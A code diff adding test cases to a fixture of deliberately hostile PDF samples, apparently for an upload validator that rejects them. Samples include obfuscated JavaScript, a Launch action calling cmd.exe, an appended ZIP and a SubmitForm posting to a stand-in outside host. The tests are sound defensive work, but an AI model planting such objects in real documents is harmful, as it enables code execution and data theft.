@@ -78,6 +78,8 @@ NASTY = {
     "and-a-zip.pdf": (make.pdf() + b" " * 2000 + zipped(), "behind the end"),
     "hides.pdf": (make.pdf(b"2 0 obj <</S /J#61va#53cript /JS (app.alert\\(1\\))>> endobj"), "programme or another file"),
     "runs.pdf": (make.pdf(b"2 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj"), "programme or another file"),
+    "asks.pdf": (make.pdf(b"2 0 obj <</AcroForm <</XFA 3 0 R>>>> endobj"), "programme or another file"),
+    "sends.pdf": (make.pdf(b"2 0 obj <</S /SubmitForm /F (https://elsewhere.example)>> endobj"), "programme or another file"),
     "launches.pdf": (make.pdf(b"2 0 obj <</S /Launch /F (cmd.exe)>> endobj"), "programme or another file"),
     "carries.pdf": (make.pdf(b"2 0 obj <</Type /EmbeddedFile>> endobj"), "programme or another file"),
     "large.pdf": (b"%PDF-" + b"0" * 10_000_000, "larger than 10 MB"),
